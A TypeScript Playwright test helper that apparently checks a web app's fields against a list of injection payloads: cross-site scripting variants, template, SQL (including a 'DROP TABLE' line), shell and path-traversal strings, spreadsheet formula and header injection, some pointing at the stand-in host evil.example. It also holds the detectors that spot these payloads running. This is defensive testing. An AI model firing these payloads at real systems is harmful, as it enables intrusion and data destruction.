import type { Page } from 'playwright';

/** What attackers type. Whatever of it ran would set `window.hacked`, open a dialog or break the CSP. */
const run = 'window.hacked=1';
export const attacks: readonly string[] = [
  // Script, in every spelling.
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<!--><script>${run}</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  // Handlers.
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `<img/src/onerror=${run}>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>`,
  `<a onmouseover=${run}>遥</a>`,
  `" onfocus=${run} autofocus x="`,
  `' onmouseover=${run} x='`,
  // SVG and MathML.
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><a xlink:href="javascript:${run}">x</a></svg>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  // Frames, forms and addresses.
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</form>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `data:text/html,<script>${run}</script>`,
  `[遥](javascript:${run})`,
  `//evil.example/`,
  // Templates.
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{{name}} {{left}} $t(words.home)`,
  `__proto__`,
  // Styles.
  `<style>*{display:none}</style>`,
  `<p style="position:fixed;inset:0;background:red">`,
  `</style><style>body{visibility:hidden}`,
  `expression(${run})`,
  // SQL and shell.
  `' OR '1'='1`,
  `'; DROP TABLE patient; --`,
  `1) UNION SELECT password_hash--`,
  `\\'; SELECT pg_sleep(9); --`,
  '`id` $(id) | id',
  '../../../../etc/passwd',
  // Tables of other programmes.
  `=HYPERLINK("http://evil.example","x")`,
  `=cmd|' /C calc'!A0`,
  `+1+1`,
  `-1+1`,
  `@SUM(1,1)`,
  // Headers of mail and of HTTP.
  `x\r\nBcc: all@evil.example`,
  `x\nSet-Cookie: a=b`,
  `x%0d%0aLocation: //evil.example`,
  // Signs that turn, hide or break.
  '\u202Egnp.evil\u202C',
  '\u2066abc\u2069\u200B\u200D',
  'é\u0301\u0301\u0301 Z\u0351\u036B\u0343͇̬',
  '𠮷野家 👩‍⚕️ ｶﾅ',
  '\uFEFF﷽',
  '<\u0000script>',
  '\u0007\u001B[31m',
  'あ'.repeat(60),
];

/** What a browser that was fooled would show; begun before any script of the page. */
export const watchForHarm = () => {
  const harm: string[] = [];
  Object.defineProperty(window, 'harm', { value: harm });
  Object.defineProperty(window, 'hacked', {
    set() {
      harm.push('a script ran');
    },
  });
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) =>
    harm.push(`${violatedDirective} ${sample}`),
  );
};

const grown = [
  'script:not([src])',
  'iframe, object, embed, base, marquee, math',
  '[onerror], [onload], [onfocus], [ontoggle], [onmouseover]',
  '[href^="javascript" i], [src*="evil.example"], [href*="evil.example"], img[src="x"]',
].join();

/** Everything on screen that came out of a text as something else than text; the page's own scripts carry its nonce. */
export const harmOn = (page: Page) =>
  page.evaluate(
    (selector) => [
      ...(window as unknown as { harm: string[] }).harm,
      ...[...document.querySelectorAll<HTMLElement>(selector)]
        .filter(({ nonce }) => !nonce)
        .map(({ outerHTML }) => outerHTML.slice(0, 200)),
    ],
    grown,
  );

/** Attacks packed into texts no longer than `most`, so that one field shows many. */
export function packed(most: number): string[] {
  const texts: string[] = [];
  for (const attack of attacks) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + attack.length <= most) texts[texts.length - 1] = `${last}\n${attack}`;
    else texts.push(attack.slice(0, most));
  }
  return texts;
}

/**
 * Returns every attack in the fewest forms: each has a text for every field, no longer than that field takes. A field
 * that is left over gets an ordinary text.
 */
export function packedForms<F extends string>(most: Record<F, number>, ordinary: string): Record<F, string>[] {
  const fields = Object.keys(most) as F[];
  const forms: Partial<Record<F, string>>[] = [];
  let at = fields.length;
  for (const attack of attacks) {
    const typed = forms.at(-1)?.[fields[at]!];
    if (typed !== undefined && typed.length + 1 + attack.length <= most[fields[at]!]) {
      forms.at(-1)![fields[at]!] = `${typed} ${attack}`;
      continue;
    }
    at += 1;
    while (at < fields.length && attack.length > most[fields[at]!]) at += 1;
    if (at >= fields.length) {
      forms.push({});
      at = fields.findIndex((field) => attack.length <= most[field]);
    }
    forms.at(-1)![fields[at]!] = attack;
  }
  return forms.map(
    (form) => Object.fromEntries(fields.map((field) => [field, form[field] ?? ordinary])) as Record<F, string>,
  );
}
